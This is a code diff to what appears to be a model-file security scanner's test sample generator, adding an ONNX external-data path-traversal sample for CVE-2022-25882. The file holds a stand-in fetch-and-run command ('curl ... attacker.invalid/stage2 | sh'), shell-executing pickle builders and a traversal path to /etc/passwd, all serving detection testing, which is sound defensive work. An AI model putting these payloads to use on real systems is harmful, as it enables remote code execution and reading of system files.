@@ -24,7 +24,7 @@ from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
-from donjon.scan.samples import gguf, keras_zip
+from donjon.scan.samples import gguf, keras_zip, onnx_model
 from donjon.scan.samples_pickle import _s, glob0, p2
 
 ATTACKER = "curl -s http://attacker.invalid/stage2 | sh"
@@ -213,6 +213,11 @@ def numpy_object_array(effect: Effect) -> bytes:
     return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + _shell_pickle(effect)
 
 
+def onnx_external_traversal(effect: Effect) -> bytes:
+    """External data read from outside the model's folder (the payload is the read itself)."""
+    return onnx_model(["../../../../etc/passwd"], [])
+
+
 def hf_auto_map(effect: Effect) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
@@ -282,6 +287,10 @@ CASES: tuple[Case, ...] = (
     Case("CVE-2025-49655-keras-torch-module", ("CVE-2025-49655",), "blob in config",
          "model.keras", keras_torch_blob, "keras-torch-blob",
          "keras is not installed: the embedded blob is run with torch.load, as Keras does"),
+    Case("CVE-2022-25882-onnx-external-data-traversal", ("CVE-2022-25882", "CVE-2024-27318"),
+         "path traversal", "model.onnx", onnx_external_traversal, None,
+         "the installed onnx (1.23) refuses the location (fixed upstream); the file is the "
+         "advisory's shape"),
     Case("HF-trust-remote-code-auto-map", ("https://huggingface.co/docs/transformers/custom_models",),
          "shipped code", "model.zip", hf_auto_map, None,
          "transformers is not installed here"),
